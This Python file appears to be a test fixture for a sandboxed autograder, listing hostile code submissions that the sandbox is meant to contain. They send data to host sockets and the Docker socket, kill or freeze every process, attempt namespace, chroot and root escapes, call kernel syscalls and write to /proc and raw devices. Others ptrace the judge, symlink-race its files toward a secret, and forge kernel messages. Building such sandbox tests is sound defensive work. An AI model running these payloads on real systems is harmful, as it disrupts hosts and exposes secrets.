"""Submissions that want out: to the network, to other processes, to more rights; and to harm what they find there."""

from __future__ import annotations

from .specimen import FULL, Cage, Kind

ZOO = Cage(Kind.ESCAPING)

ZOO.cell(
    "tcp-to-the-host",
    "Sends data to a TCP listener of the host.",
    "import socket\nwith socket.create_connection(('127.0.0.1', @port), 3) as one:\n    one.sendall(b'exfiltrated')",
    box=True,
)
ZOO.cell(
    "udp-to-the-host",
    "Sends data to a UDP listener of the host.",
    "import socket\nwith socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:\n"
    "    one.sendto(b'exfiltrated', ('127.0.0.1', @port))",
    box=True,
)
ZOO.cell(
    "unix-socket-of-the-host",
    "Connects to a Unix socket of the host, by its path and by its abstract name.",
    "import socket\nfor path in ('@socket', '\\0@marker', '/var/run/docker.sock'):\n"
    "    with socket.socket(socket.AF_UNIX) as one:\n        try:\n            one.connect(path)\n"
    "            one.sendall(b'exfiltrated')\n        except OSError as error:\n            print(error)",
    box=True,
)
ZOO.answers(
    "network-while-called",
    "Sends data when it is called, and from the judge's side if it can.",
    {
        "double": "import socket, subprocess, sys\ndef double(number):\n    try:\n"
        "        socket.create_connection(('127.0.0.1', @port), 2).sendall(b'exfiltrated')\n    except OSError:\n"
        "        pass\n    return number * 2"
    },
    solved=True,
    box=True,
    marks=FULL,
)
ZOO.cell(
    "kills-its-parent",
    "Kills the process that started it: the grader.",
    "import os, signal\nfor pid in (os.getppid(), 1):\n    os.kill(pid, signal.SIGKILL)",
    box=True,
    plain=False,
)
ZOO.cell(
    "kills-everybody",
    "Kills every process that it may.",
    "import os, signal\nos.kill(-1, signal.SIGKILL)",
    box=True,
    plain=False,
)
ZOO.answers(
    "kills-everybody-when-called",
    "Kills every process that it may, when the judge asks: the judge, the kernel, the service.",
    {"double": "import os, signal\ndef double(number):\n    os.kill(-1, signal.SIGKILL)"},
    solved=True,
    marks=None,
    box=True,
    plain=False,
)
ZOO.answers(
    "kills-others-and-answers",
    "Kills every process but itself, its kernel and those above, and returns the right value.",
    {
        "double": "import os, signal\ndef double(number):\n    for name in os.listdir('/proc'):\n"
        "        if name.isdigit() and int(name) not in (1, os.getpid(), os.getppid()):\n            try:\n"
        "                os.kill(int(name), signal.SIGKILL)\n            except OSError:\n                pass\n"
        "    return number * 2"
    },
    solved=True,
    box=True,
    plain=False,
    marks=None,
)
ZOO.cell(
    "stops-everybody",
    "Stops (SIGSTOP) every process that it may, so that nothing goes on.",
    "import os, signal\nfor name in os.listdir('/proc'):\n"
    "    if name.isdigit() and int(name) not in (1, os.getpid()):\n"
    "        try:\n            os.kill(int(name), signal.SIGSTOP)\n        except OSError:\n            pass",
    box=True,
    plain=False,
)
ZOO.cell(
    "detached-processes",
    "Leaves thirty processes in sessions of their own.",
    "import os, sys\nfor n in range(30):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork():\n"
    "            os._exit(0)\n        os.execvp(sys.executable, [sys.executable, '-c', "
    "'import time; time.sleep(600)', '@marker'])",
    box=True,
)
ZOO.answers(
    "detached-process-of-a-call",
    "A call leaves a process that goes on after its answer.",
    {
        "double": "import os, sys\ndef double(number):\n    if os.fork() == 0:\n        os.setsid()\n"
        "        os.closerange(0, 200)\n        os.execvp(sys.executable, [sys.executable, '-c', "
        "'import time; time.sleep(600)', '@marker'])\n    return number * 2"
    },
    solved=True,
    box=True,
    marks=FULL,
)
ZOO.cell(
    "namespaces-and-mounts",
    "Makes user namespaces, mounts, devices; sets clocks, host names; becomes root.",
    "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\ndone = []\n"
    "for flags in (0x10000000, 0x10020000, 0x40000000, 0x20000000, 0x00020000):\n"
    "    if libc.unshare(flags) == 0:\n        done.append(hex(flags))\n"
    "if libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0:\n    done.append('mount')\n"
    "if libc.sethostname(b'evil', 4) == 0:\n    done.append('hostname')\nif libc.chroot(b'/tmp') == 0:\n"
    "    done.append('chroot')\nfor act in (lambda: os.setuid(0),"
    " lambda: os.mknod('/tmp/d', 0o60600, os.makedev(8, 0))):"
    "\n"
    "    try:\n        act()\n        done.append('root')\n    except OSError:\n        pass\n"
    "if done and os.getuid() != 0 or 'root' in done:\n    print('ESCAPED', done)",
    box=True,
    plain=False,
)
ZOO.cell(
    "dangerous-calls",
    "Tries bpf, keyctl, perf, userfaultfd, io_uring, kexec, module loading and ptrace of the first process.",
    "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\ndone = []\n"
    "for name, number in {'bpf': 321, 'keyctl': 250, 'perf': 298, 'uffd': 323, 'io_uring': 425, 'kexec': 246, "
    "'init_module': 175, 'reboot': 169, 'swapon': 167, 'quotactl': 179}.items():\n"
    "    if libc.syscall(number, -1, -1, -1, -1, -1) >= 0:\n        done.append(name)\n"
    "if libc.ptrace(16, 1, 0, 0) == 0:\n    done.append('ptrace')\nif done:\n    print('ESCAPED', done)",
    box=True,
    plain=False,
)
ZOO.cell(
    "proc-and-sys",
    "Writes to /proc/sys, sysrq, cgroups and core patterns.",
    "done = []\nfor path in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/sys/fs/cgroup/cgroup.procs', "
    "'/proc/1/oom_score_adj', '/proc/sys/kernel/hostname', '/dev/mem', '/dev/sda', '/dev/kmsg'):\n    try:\n"
    "        with open(path, 'r+b') as file:\n            done.append(path)\n    except OSError:\n        pass\n"
    "if done:\n    print('ESCAPED', done)",
    box=True,
    plain=False,
)
ZOO.cell(
    "ptraces-the-judge",
    "A thread traces and stops every process that appears.",
    "import ctypes, os, threading\nlibc = ctypes.CDLL(None)\ndef hunt():\n    seen = set()\n    while True:\n"
    "        for name in os.listdir('/proc'):\n"
    "            if name.isdigit() and name not in seen and int(name) != os.getpid():\n"
    "                seen.add(name)\n                if libc.ptrace(0x4206, int(name), 0, 0) == 0:\n"
    "                    open('/tmp/traced', 'a').write(name + ' ')\n"
    "threading.Thread(target=hunt, daemon=True).start()",
    solved=True,
    marks=None,
    box=True,
    plain=False,
)
ZOO.cell(
    "races-the-judge-s-files",
    "A thread replaces the judge's files by links to files of the host.",
    "import glob, os, threading, time\ndef race():\n    while True:\n"
    "        for path in glob.glob('/tmp/**/lines.txt', recursive=True):\n            try:\n"
    "                os.unlink(path)\n"
    "                os.symlink('@root/autograder/secret.txt', path)\n            except OSError:\n"
    "                pass\n"
    "        time.sleep(0.001)\nthreading.Thread(target=race, daemon=True).start()",
    box=True,
)
ZOO.cell(
    "replaces-the-run-directory",
    "Moves the run directory's folders and sockets away, and puts links there.",
    "import glob, os\nfor folder in glob.glob('/tmp/run-*'):\n"
    "    for name in ('judge', 'answers', 'kernel-2', 'work'):\n"
    "        try:\n            os.rename(f'{folder}/{name}', f'{folder}/{name}-away')\n"
    "            os.symlink('@root/autograder', f'{folder}/{name}')\n        except OSError as error:\n"
    "            print(error)",
    box=True,
)
ZOO.cell(
    "message-floods-the-client",
    "Sends messages of unknown kinds, without headers, and with wrong signatures to the grader's client.",
    "k = get_ipython().kernel\nimport os\nparent = k.get_parent()\n"
    "for kind in ('execute_reply', 'status', 'stream', 'error', 'update_display_data', 'clear_output', 'nonsense'):\n"
    "    for content in ({}, {'data': {}}, {'text': 7, 'name': []}, {'execution_state': 'idle'}):\n"
    "        k.session.send(k.iopub_socket, kind, content, parent=parent)",
)
ZOO.cell(
    "bad-signatures",
    "Changes the key of its session, so that nothing that the kernel says is signed.",
    "get_ipython().kernel.session.key = b'another'",
    slow=True,
)
ZOO.cell(
    "headers-of-another-kind",
    "Everything that the kernel says has headers and contents of the wrong types.",
    "session = get_ipython().kernel.session\nreal = session.serialize\ndef odd(msg, ident=None):\n"
    "    return real({**msg, 'parent_header': [1], 'content': [2]}, ident)\nsession.serialize = odd",
    slow=True,
)
